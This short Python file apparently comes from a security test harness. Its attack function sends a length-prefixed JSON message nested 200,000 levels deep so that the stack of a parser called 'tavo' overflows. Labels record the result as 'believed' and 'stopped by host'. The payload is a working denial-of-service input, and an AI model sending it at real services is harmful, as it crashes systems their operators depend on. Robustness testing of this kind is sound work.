"""Send JSON that is 200,000 levels deep."""

from __future__ import annotations

import os
from typing import Any

EVIDENCE = "believed"
STOPPED_BY = "host"
MEANS = "the parser of tavo runs out of its stack"


def attack(at: Any) -> None:
    body = b'{"type":"result","id":1,"items":' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    data = len(body).to_bytes(4, "big") + body
    while data:
        data = data[os.write(at.channel(), data) :]
